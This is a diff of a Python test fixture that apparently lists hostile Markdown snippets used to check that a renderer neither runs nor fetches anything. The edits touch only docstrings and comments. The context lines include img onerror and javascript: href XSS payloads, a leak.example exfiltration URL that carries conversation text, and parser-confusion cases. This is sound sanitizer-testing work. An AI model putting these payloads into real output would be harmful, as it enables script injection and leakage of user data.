@@ -1,4 +1,4 @@
-"""Markdown of which nothing may run, be fetched, or hide what follows."""
+"""Hostile Markdown: nothing in it may run, be fetched, or hide what follows."""
 
 from __future__ import annotations
 
@@ -8,7 +8,7 @@ FETCH = "/files/fetched.png"
 RUN = "ran()"
 IMG = f"<img src={FETCH} onerror={RUN}>"
 LEAK = "https://leak.example/?words=secret"
-"""An address of somebody else, with what was said in it."""
+"""Somebody else's address, with words of the conversation in it."""
 
 SNIPPETS = (
     # raw HTML
@@ -119,7 +119,7 @@ SNIPPETS = (
     f"$\\includegraphics{{{FETCH}}}$",
     f"&#36;\\href{{javascript:{RUN}}}{{x}}&#36;",
     f"&dollar;\\href{{javascript:{RUN}}}{{x}}&dollar;",
-    # code that is none to every parser
+    # code that not every parser takes for code
     f"`$` a $ {IMG} ` $",
     f"$x ` y$ {IMG} `",
     f"`$\n$ {IMG}`",
@@ -178,7 +178,7 @@ def nested(prefix: str, text: str, first: str | None = None) -> str:
 
 
 def placed(snippet: str) -> dict[str, str]:
-    """A snippet alone, within other things, and after what was not closed."""
+    """A snippet alone, within other Markdown, and after something left unclosed."""
     return {
         "alone": snippet,
         "list": nested("  ", snippet, "- "),
